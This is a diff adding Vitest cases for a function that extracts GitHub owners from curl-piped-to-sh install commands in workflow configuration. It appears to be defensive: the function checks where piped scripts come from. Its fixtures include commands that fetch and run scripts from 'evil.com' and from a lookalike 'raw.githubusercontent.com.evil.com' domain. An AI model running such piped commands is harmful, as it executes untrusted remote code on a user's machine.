@@ -1,5 +1,5 @@
 import { expect, test } from 'vitest';
-import { pipesOneVersion } from '../../../../src/domains/config/workflows/one-version.ts';
+import { ownersPiped, pipesOneVersion } from '../../../../src/domains/config/workflows/one-version.ts';
 
 const RAW = 'https://raw.githubusercontent.com/acme/tool';
 const FIXED = `curl -sfL ${RAW}/v0.2.1/install.sh | sh`;
@@ -27,4 +27,23 @@ test.each([
   ['make', false],
 ])('%s is of one version: %s', (text, expected) => {
   expect(pipesOneVersion(text)).toBe(expected);
+});
+
+test.each([
+  [`curl -sSfL ${RAW}/main/i.sh | sh -s -- -b bin`, ['acme']],
+  [`curl ${RAW}/refs/heads/main/i.sh | sh`, ['acme']],
+  ['curl -L https://github.com/acme/tool/raw/main/i.sh | sh', ['acme']],
+  ['curl -L https://github.com/acme/tool/releases/latest/download/i.sh | sh', ['acme']],
+  ['curl -L https://github.com/acme/tool/releases/download/v1/i.sh | sh', ['acme']],
+  [`curl ${RAW}/main/i.sh | sh\ncurl https://github.com/beta/b/raw/main/i.sh | sh`, ['acme', 'beta']],
+  [`curl ${RAW}/${'abcdef12'.repeat(5)}/i.sh | sh`, []],
+  [`curl ${RAW}/abcdef1/i.sh | sh`, []],
+  [`curl ${RAW}/refs/pull/1/head/i.sh | sh`, []],
+  [`curl ${RAW}/pull/1/head/i.sh | sh`, []],
+  [`curl ${RAW}/main/i.sh | sh\ncurl https://evil.com/i.sh | sh`, []],
+  ['curl https://raw.githubusercontent.com.evil.com/acme/tool/main/i.sh | sh', []],
+  ['curl https://evil.com/i.sh | sh', []],
+  ['make', []],
+])('%s is of %j', (text, owners) => {
+  expect(ownersPiped(text)).toEqual(owners);
 });
